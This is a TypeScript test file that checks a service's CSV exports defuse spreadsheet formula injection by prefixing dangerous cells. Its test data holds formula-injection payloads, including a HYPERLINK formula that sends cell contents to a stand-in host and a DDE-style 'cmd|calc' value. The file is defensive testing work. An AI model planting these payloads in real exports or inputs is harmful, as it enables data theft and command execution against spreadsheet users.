/**
 * Every CSV the service writes defuses spreadsheet formulas the same way (server/http/csv.ts): the
 * visitors report, the account page, the audit log and the enrichment result (console upload and
 * `svc enrich`, one writer) — each checked with a cell of every dangerous kind, the audit log and the
 * enrichment result over real HTTP. And no module writes CSV past that one writer.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AccountPage, accountCsv } from '../accounts/account.ts';
import { batchSources } from '../enrichment/batch-test-leads.ts';
import type { EnrichJob } from '../enrichment/jobs/job-store.ts';
import { plainCustomer } from '../testing/fixtures.ts';
import { startTestServer, TEST_ADMIN_TOKEN, type TestServer } from '../testing/test-server.ts';
import { reportCsv, type VisitsReport } from '../visits/report.ts';
import { csvText, spreadsheetSafe } from './csv.ts';

const SERVER = fileURLToPath(new URL('..', import.meta.url));
const BEARER = { authorization: `Bearer ${TEST_ADMIN_TOKEN}` };

/** A value of each kind a spreadsheet runs (or splits into a formula), and what the file must hold instead. */
const DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const DEFUSED = DANGEROUS.map((v) => `'${v}`);

describe('spreadsheetSafe', () => {
  it('prefixes exactly the cells that start with =, +, -, @, tab or CR', () => {
    expect(DANGEROUS.map(spreadsheetSafe)).toEqual(DEFUSED);
    for (const fine of ['Northwind', 'a=b', ' =1', '1-2', 'x@y.example', '']) expect(spreadsheetSafe(fine)).toBe(fine);
    expect(parse(csvText([DANGEROUS]))).toEqual([DEFUSED]);
  });

  it('is the only way the service writes CSV: no module but server/http/csv.ts imports csv-stringify', () => {
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const path = join(dir, e.name);
        if (e.isDirectory()) {
          // Test helpers write fixture sources, not answers.
          if (e.name !== 'node_modules' && e.name !== 'testing') walk(path);
        } else if (/\.tsx?$/.test(e.name) && !/\.test\.tsx?$/.test(e.name) && /from 'csv-stringify/.test(readFileSync(path, 'utf8'))) {
          writers.push(relative(SERVER, path));
        }
      }
    };
    walk(SERVER);
    expect(writers).toEqual([join('http', 'csv.ts')]);
  });
});

describe('the visitors report and the account page CSVs', () => {
  it('defuse a formula in every text cell', () => {
    const report = {
      accounts: DANGEROUS.map((v, i) => ({
        company_id: String(900_000 + i),
        name: v,
        domain: v,
        page_views: 1,
        sessions: 1,
        first_seen: '2026-11-20T10:00:00.000Z',
        last_seen: '2026-11-20T10:00:00.000Z',
        top_pages: [{ path: v, page_views: 1 }],
        segment_ids: [],
        hot_account: false,
        excluded: false,
      })),
    } as unknown as VisitsReport;
    const rows = parse(reportCsv(report), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.name, r.domain])).toEqual(DEFUSED.map((v) => [v, v]));
    expect(rows.map((r) => r.top_pages)).toEqual(DANGEROUS.map((v) => `'${v} (1)`));

    const page = {
      daily: [],
      sessions: [{ session_id: '=1+1', pages: DANGEROUS.map((path) => ({ at: '2026-11-20T10:00:00.000Z', path })) }],
    } as unknown as AccountPage;
    const pageRows = parse(accountCsv(page), { columns: true }) as Record<string, string>[];
    expect(pageRows.map((r) => [r.session_id, r.path])).toEqual(DEFUSED.map((v) => ["'=1+1", v]));
  });
});

describe('over HTTP', () => {
  let srv: TestServer;
  beforeAll(async () => {
    srv = await startTestServer({ ...batchSources(new Date()), customers: [plainCustomer('csv', { enrichment_credits: 100 })] });
  }, 60_000);
  afterAll(() => srv?.close());

  it('the audit log CSV defuses a formula in every text cell', async () => {
    for (const v of DANGEROUS)
      await srv.users.appendAudit({ customer_id: 'csv', at: new Date().toISOString(), actor: v, ip: null, action: v, target: v, before: null, after: null });
    const res = await fetch(`${srv.url}/admin/api/customers/csv/audit`, { headers: { ...BEARER, accept: 'text/csv' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.actor, r.action, r.target]).sort()).toEqual(DEFUSED.map((v) => [v, v, v]).sort());
  });

  it("the enrichment result (console upload; svc enrich's writer) defuses a formula in the file's own cells", async () => {
    const input = [['id', 'email', 'note'], ...DANGEROUS.map((v, i) => [v, i % 2 ? 'lead1@co1.example' : 'someone@unknown.example', v])];
    const res = await fetch(`${srv.url}/admin/api/customers/csv/enrichment-jobs`, {
      method: 'POST',
      headers: { ...BEARER, 'content-type': 'text/csv' },
      body: stringify(input),
    });
    expect(res.status, await res.clone().text()).toBe(202);
    const { id } = (await res.json()) as EnrichJob;
    for (let job: EnrichJob; ; await new Promise((r) => setTimeout(r, 25))) {
      job = (await (await fetch(`${srv.url}/admin/api/customers/csv/enrichment-jobs/${id}`, { headers: BEARER })).json()) as EnrichJob;
      if (job.status === 'done') break;
      expect(job.status).not.toBe('failed');
    }
    const result = await fetch(`${srv.url}/admin/api/customers/csv/enrichment-jobs/${id}/result.csv`, { headers: BEARER });
    const rows = parse(await result.text(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.id, r.note])).toEqual(DEFUSED.map((v) => [v, v]));
    expect(rows.map((r) => r.status)).toEqual(['404', '200', '404', '200', '404', '200']);
  }, 60_000);
});
